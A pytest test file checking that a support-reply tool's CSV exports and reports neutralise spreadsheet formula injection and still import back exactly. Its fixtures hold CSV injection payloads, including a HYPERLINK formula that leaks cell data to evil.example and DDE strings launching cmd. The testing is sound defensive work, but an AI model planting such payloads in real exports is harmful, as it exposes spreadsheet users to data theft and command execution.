"""CSV injection: no cell replykit writes can be run as a spreadsheet formula, and the
library export still round-trips through `replykit replies import`. textio.write_csv is the
one CSV writer (checked by reading the source); the CLI writers are tested here, the web
downloads in tests/web/test_csv_downloads.py."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, reject, settings
from hypothesis import strategies as st

from cli.main import cli
from replykit.config import load_config
from replykit.errors import InputError
from replykit.home import Home
from replykit.textio import csv_cell, csv_text, write_csv
from suggest import library_io

ROOT = Path(__file__).parents[1]
LEADS = ["", " ", "  ", "\t", "\r", "\n", "\u3000", "\xa0", "'", "''", " '", "' "]
TRIGGERS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66"]
BODIES = ['HYPERLINK("http://evil.example/?x="&A1,"Refund")', "cmd|' /C calc'!A0",
          "SUM(1+1)*cmd|' /C calc'!A0", "1+1", "", "x"]

payloads = st.builds(lambda lead, trigger, body: lead + trigger + body, st.sampled_from(LEADS),
                     st.sampled_from(TRIGGERS), st.sampled_from(BODIES) | st.text(max_size=20))


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet might do with a CSV cell, independently of textio: a cell that is
    not a plain number and starts (after spaces) with = + - @ or their full-width forms, or
    with a tab or carriage return, may be taken for a formula."""
    try:
        float(cell)
        return False
    except ValueError:
        pass
    if cell[:1] in ("\t", "\r"):
        return True
    first = cell.lstrip()[:1]
    return unicodedata.normalize("NFKC", first)[:1] in ("=", "+", "-", "@")


@settings(max_examples=300)
@given(st.one_of(payloads, st.text()))
def test_a_neutralised_cell_never_runs_and_gives_back_its_text(text):
    cell = csv_cell(text)
    assert not runs_as_formula(cell)
    assert csv_text(cell) == text
    assert cell == text or cell == "'" + text


def test_only_cells_that_could_run_get_a_quote():
    for text in ("plain", "a=b", "'hi", "1-2", "Ana Lima", "", " x", "ลืม", "سلام"):
        assert csv_cell(text) == text
    for text in ("=1", " =1", "'=1", "\t", "\rx", "'\tx", "\uff20x", "\n@x"):
        assert csv_cell(text) == "'" + text


def test_numbers_are_left_as_numbers():
    out = io.StringIO()
    write_csv(out, ["a", "b", "c"], [{"a": -3.5, "b": None, "c": "-3.5"}])
    assert out.getvalue() == "a,b,c\r\n-3.5,,'-3.5\r\n"


def test_write_csv_is_the_only_csv_writer():
    """Every CSV replykit writes goes through textio.write_csv."""
    writers = []
    for package in ("replykit", "suggest", "rubrics", "web", "index"):
        for path in (ROOT / package).rglob("*.py"):
            for number, line in enumerate(path.read_text("utf-8").splitlines(), 1):
                if re.search(r"csv\.(writer|DictWriter)\b", line):
                    writers.append(f"{path.relative_to(ROOT)}:{number}")
    assert writers == [f"replykit/textio.py:{_line_of('replykit/textio.py', 'csv.writer(')}"]


def _line_of(relative: str, text: str) -> int:
    lines = (ROOT / relative).read_text("utf-8").splitlines()
    return next(i for i, line in enumerate(lines, 1) if text in line)


@pytest.fixture
def run(config):
    """Invoke `replykit --home <tmp home> ...` (MiniLM only); home= another home."""
    runner = CliRunner()

    def invoke(*args, home: Path = config.home):
        home.mkdir(mode=0o700, parents=True, exist_ok=True)  # private, as replykit wants
        (home / "config.toml").write_text('multilingual_model = ""\n', "utf-8")
        result = runner.invoke(cli, ["--home", str(home), *args])
        assert result.exit_code == 0, result.output
        return result.output

    return invoke


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def planted_records(payload_list: list[str]) -> list[dict]:
    return [{
        "id": f"planted-{i}", "title": payload, "body": payload + " body",
        "tags": [payload.replace("|", "/")], "language": "en", "status": "draft",
        "folder": payload, "teams": [],
        "questions": [payload, "refund?"], "author": payload, "attachments": [],
    } for i, payload in enumerate(payload_list)]


FIXED = ['=HYPERLINK("http://evil.example","Refund")', "+cmd|' /C calc'!A0", "-2+3",
         "@SUM(A1:A9)", "\t=1", "\r=1", " =1", "\uff1dHYPERLINK(1)", "'=already quoted",
         "''@x", "' \t", "plain text", "'just a quote"]


def test_cli_library_export_is_neutralised_and_imports_back_exactly(run, tmp_path):
    source = tmp_path / "planted.jsonl"
    source.write_text("".join(json.dumps(r) + "\n" for r in planted_records(FIXED)), "utf-8")
    run("replies", "import", str(source))
    exported, stored = tmp_path / "library.csv", tmp_path / "stored.jsonl"
    run("replies", "export", str(exported))
    run("replies", "export", str(stored))
    text = exported.read_text("utf-8")
    assert not [c for c in cells(text) if runs_as_formula(c)]
    assert "'=HYPERLINK(" in text and "'\uff1dHYPERLINK(" in text and "'\t=1" in text
    other, again = tmp_path / "other-home", tmp_path / "again.jsonl"
    run("replies", "import", str(exported), home=other)
    run("replies", "export", str(again), home=other)
    assert again.read_text("utf-8") == stored.read_text("utf-8")


@settings(max_examples=15, deadline=None)
@given(st.lists(payloads, min_size=1, max_size=4))
def test_library_csv_round_trips_any_planted_text(tmp_path_factory, payload_list):
    """library_io (what `replies export/import` call) with generated payloads, from one
    home into a fresh one; texts the library refuses (control characters in a title...) are
    skipped."""
    tmp = tmp_path_factory.mktemp("csv")
    source = tmp / "in.jsonl"
    source.write_text("".join(json.dumps(r) + "\n" for r in planted_records(payload_list)),
                      "utf-8")
    first = Home(load_config(tmp / "a", multilingual_model=""))
    second = Home(load_config(tmp / "b", multilingual_model=""))
    try:
        try:
            library_io.import_replies(first.db, source, first.config.attachments_dir)
        except InputError:
            reject()
        exported = tmp / "out.csv"
        try:
            library_io.export_replies(first.db, exported, first.config.attachments_dir)
        except InputError as exc:  # a line break inside a question: CSV can't hold it
            assert "export as .jsonl instead" in str(exc)
            reject()
        assert not [c for c in cells(exported.read_text("utf-8")) if runs_as_formula(c)]
        library_io.import_replies(second.db, exported, second.config.attachments_dir)
        assert list(library_io.export_records(second.db, second.config.attachments_dir)) == list(
            library_io.export_records(first.db, first.config.attachments_dir))
    finally:
        first.close()
        second.close()


def test_cli_report_csv_is_neutralised(run, tmp_path, config):
    messages = tmp_path / "messages.jsonl"
    rows = [("C1", "m1", "customer", "=Customer()", "2026-09-01T09:00:00Z", "Refund?"),
            ("C1", "m2", "agent", '=HYPERLINK("http://evil.example")', "2026-09-01T09:30:00Z",
             "Hi, done.")]
    messages.write_text("".join(json.dumps({
        "conversation_id": c, "message_id": m, "role": role, "author": author,
        "channel": "@SUM(A1)", "created_at": at, "body": body, "subject": "-1+1"}) + "\n"
        for c, m, role, author, at, body in rows), "utf-8")
    run("import", "conversations", str(messages))
    for name in ("speed", "quality", "combined"):
        out = run("report", name, "--from", "2026-09-01", "--to", "2026-09-30",
                  "--format", "csv")
        assert not [c for c in cells(out) if runs_as_formula(c)], (name, out)
